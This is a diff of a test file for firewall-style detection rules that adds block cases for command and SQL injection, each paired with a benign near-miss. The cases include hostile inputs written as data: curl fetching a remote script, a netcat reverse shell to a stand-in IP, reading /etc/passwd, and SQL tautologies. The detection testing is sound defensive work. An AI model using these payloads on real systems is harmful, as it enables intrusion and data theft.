@@ -6,6 +6,14 @@
  * 9000342. 9000365 keeps `-O` right after its delimiter; 9000343 takes it after blanks. 9000373 (ho27, same
  * session) keeps curl's `-K` and Go's `-extld`; a URL followed by `-o` writing a server script is 9000344. Each part fires
  * on its attack and stays quiet on the benign text closest to it.
+ *
+ * Rev 2026-12-10x (fp28, session 28): four more, candidates on 59 / 25 / 23 % of the generated benign requests. 9000314
+ * keeps curl/wget and uname; its other commands are 9000384 (/bin/sh, echo, sleep, chmod), 9000385 (sh -c, nc),
+ * 9000386 (ls, nslookup/dig/ping), 9000387 (powershell, cmd /c, net user, certutil, whoami…), 9000388 (python, perl,
+ * ruby, php) and 9000375 (cat /etc, /proc). 9000369 keeps its Windows probes but `ver`, now 9000376, whose trigger is
+ * `ver` right after the `&`, a blank, `+` or `%20`. 9000117 keeps the word operators (trigger: a blank before them);
+ * `||`, `&&` and DIV are 9000183. `net user` in 9000369 and 9000387 takes no line break right after `net` (a Host
+ * ending in .net, `.NET CLR` then a header's line end).
  */
 import { describe } from 'vitest';
 import { form, json, q, type RuleCase, testPrefilterEntries, testRuleCases, useBundledRuleSet } from './bundled-requests.js';
@@ -26,7 +34,32 @@ const CASES: RuleCase[] = [
   [9000344, 'block', 'a URL, then -o writing a server script', form('feed=https://sync.example.io/x.txt -o /var/www/html/s.php'), form('feed=https://sync.example.io/x.txt -o /tmp/x.txt')],
 ];
 
+const CASES_10X: RuleCase[] = [
+  [9000314, 'block', 'curl of a URL after a separator', q('ip=127.0.0.1;curl+http://203.0.113.9/x.sh'), q('doc=curl+http%3A%2F%2Fexample.com%2Fx+downloads+it')],
+  [9000314, 'block', 'uname -a after a pipe', form('host=10.0.0.1%7Cuname+-a'), form('note=uname+-a+prints+the+kernel')],
+  [9000384, 'block', '/bin/sh after a pipe', q('cmd=a%7C%2Fbin%2Fsh'), q('shell=%2Fbin%2Fsh')],
+  [9000384, 'block', 'sleep seconds after a separator', q("ip=1';sleep%205;date"), q('ip=1%27%3Bsleep%205%3B%20done')],
+  [9000385, 'block', 'sh -c after a separator in JSON', json('{"host":"127.0.0.1;sh -c id"}'), json('{"script":"run it with sh -c"}')],
+  [9000385, 'block', 'nc -e after a pipe', form('host=10.0.0.1|nc -e /bin/sh 203.0.113.7 4444'), form('note=nc+-e+is+disabled+in+openbsd-netcat')],
+  [9000386, 'block', 'ping of a host name after a separator', json('{"host":"x;ping -c 3 a.b.example.com"}'), json('{"note":"ping -c 3 a.b.example.com"}')],
+  [9000387, 'block', 'whoami after &&', q('host=1.1.1.1%26%26whoami'), q('q=whoami+command')],
+  [9000387, 'block', 'net user after a separator', q('h=x%3Bnet+user'), q('h=x%3Bnet%0Auser')],
+  [9000388, 'block', 'perl -e after a separator', q('c=x;perl+-e+%27print+1%27'), q('q=perl+-e+one-liners')],
+  [9000388, 'block', 'php -r after a separator', q('c=x%7Cphp+-r+%27phpinfo();%27'), q('page=%2Findex.php+-r')],
+  [9000375, 'block', 'cat of /etc/passwd spaced with ${IFS}', q('ip=127.0.0.1%3Bcat%24%7BIFS%7D%2Fetc%2Fpasswd'), q('q=cat+%2Fetc%2Fpasswd+explained')],
+  [9000369, 'block', 'net user between quoted & separators', json('{"utility_path":"C:\\\\x\\" & net user & \\""}'), json('{"utility_path":"C:\\\\x\\" & net\\nuser & \\""}')],
+  [9000376, 'block', 'ver between quoted & separators', json('{"utility_path":"C:\\\\x\\" & ver & \\""}'), json('{"note":"\\"server\\" & version 2"}')],
+  [9000117, 'block', 'OR 1 as a JSON value', json('{"page":"9255 or 1"}'), json('{"answer":"2 or 3"}')],
+  [9000183, 'block', '|| 1 as a form value', form('id=1+%7C%7C+1'), form('id=1+%7C%7C+2')],
+  [9000183, 'block', 'DIV 0 and a hash comment', form('file=8998+div+0%23&submit=1'), form('q=8+div+block')],
+];
+
 describe('bundled rules split for specific prefilter triggers (rev 2026-12-10u)', () => {
   testRuleCases(CASES, hits);
   testPrefilterEntries(CASES.map(([sid]) => sid), rules);
+});
+
+describe('bundled rules split for specific prefilter triggers (rev 2026-12-10x)', () => {
+  testRuleCases(CASES_10X, hits);
+  testPrefilterEntries(CASES_10X.map(([sid]) => sid), rules);
 });
